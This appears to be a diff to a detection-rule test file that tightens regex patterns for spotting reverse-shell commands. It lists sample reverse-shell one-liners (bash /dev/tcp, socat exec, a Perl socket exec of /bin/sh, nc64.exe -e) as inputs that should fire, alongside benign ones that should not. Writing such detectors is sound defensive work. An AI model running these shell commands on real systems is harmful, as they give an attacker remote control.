@@ -13,7 +13,7 @@
 -- pattern: unix mkfifo [^;]*;.*(nc|ncat|netcat|telnet|openssl)
 -- pattern: unix socat .*(exec|EXEC|system|SYSTEM):["']?[^ ,]*(sh|bash|python|perl|login|cmd)
 -- pattern: unix (ba|z|k|)sh +-i *(>|<|[0-9]>|&>|$)
--- pattern: unix socket.*(subprocess|pty\.spawn|dup2|exec)
+-- pattern: unix socket.*(pty\.spawn|dup2|(subprocess|exec|system)[^;]{0,60}["'/](ba|da|z|k|)sh["' ])
 -- pattern: unix openssl s_client .*\|
 -- pattern: windows (?i)(net\.sockets\.tcpclient|nc(64)?\.exe .*-e )
 -- fires:   {"unix": "bash -i >& /dev/tcp/192.0.2.1/443 0>&1"}
@@ -21,12 +21,14 @@
 -- fires:   {"unix": "socat tcp:192.0.2.1:443 exec:/bin/sh"}
 -- fires:   {"windows": "$c = New-Object System.Net.Sockets.TCPClient(1)"}
 -- fires:   {"windows": "nc64.exe 192.0.2.1 443 -e cmd"}
+-- fires:   {"unix": "use Socket; socket(S,PF_INET,SOCK_STREAM,6); exec(\"/bin/sh -i\")"}
+-- spares:  {"unix": "use Socket; socket(S,PF_INET,SOCK_STREAM,6); exec(\"/usr/bin/pg_dump -f x\")"}
 -- spares:  {"unix": "nc -z 192.0.2.1 443"}
 -- spares:  {"unix": "bash -c \"echo > /dev/tcp/127.0.0.1/5432\""}
 -- spares:  {"unix": "socat tcp-listen:80 unix:/run/x"}
 -- spares:  {"windows": "nc64.exe -l 443"}
 --
--- shape:   unit_command hook
+-- shape:   unit_command hook launchd
 -- fires:   {"script_patterns": "[\"network_shell\"]"}
 -- fires:   {"script_patterns": "[\"downloads\",\"network_shell\"]"}
 -- spares:  {"script_patterns": "[\"downloads\"]"}
